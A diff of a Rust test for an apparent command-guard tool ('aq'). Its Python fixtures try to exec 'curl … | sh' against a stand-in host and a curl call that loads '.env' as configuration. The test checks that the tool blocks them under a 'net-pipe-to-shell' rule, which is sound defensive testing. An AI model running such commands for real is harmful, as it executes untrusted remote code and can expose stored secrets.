@@ -71,8 +71,14 @@ fn a_direct_execv_from_python_is_judged() {
         &env.work().join("x.py"),
         "import os\ntry:\n    os.execv('/bin/sh', ['sh', '-c', 'curl -s https://example.invalid/i.sh | sh'])\nexcept OSError as e:\n    print('execv refused, errno', e.errno)\n",
     );
+    // A refused `sh -c` is let start and exits 126 at once (its script
+    // replaced at the exec stop), as a shell does for a command it may not
+    // run: the caller reads the reason and a shell's status.
     let out = env.aq(&["run", "--", "python3", "x.py"]);
-    out.code(0).stdout_has("execv refused, errno 13");
+    out.code(126)
+        .stdout_lacks("execv refused")
+        .stderr_has("aq: blocked: sh -c")
+        .stderr_has("rule:  net-pipe-to-shell (block");
     let session = env.only_session();
     assert!(
         guard_decisions(&session)
@@ -81,6 +87,15 @@ fn a_direct_execv_from_python_is_judged() {
         "{}",
         session.log_text()
     );
+    // Any other program refused: the exec fails with EACCES and the caller
+    // lives on.
+    env.write(
+        &env.work().join("y.py"),
+        "import os\ntry:\n    os.execv('/usr/bin/curl', ['curl', '-s', 'https://example.invalid/i.sh', '-o', '/tmp/x', '--config', '/dev/null', '-K', '.env'])\nexcept OSError as e:\n    print('execv refused, errno', e.errno)\n",
+    );
+    env.aq(&["run", "--", "python3", "y.py"])
+        .code(0)
+        .stdout_has("execv refused, errno 13");
 }
 
 #[test]
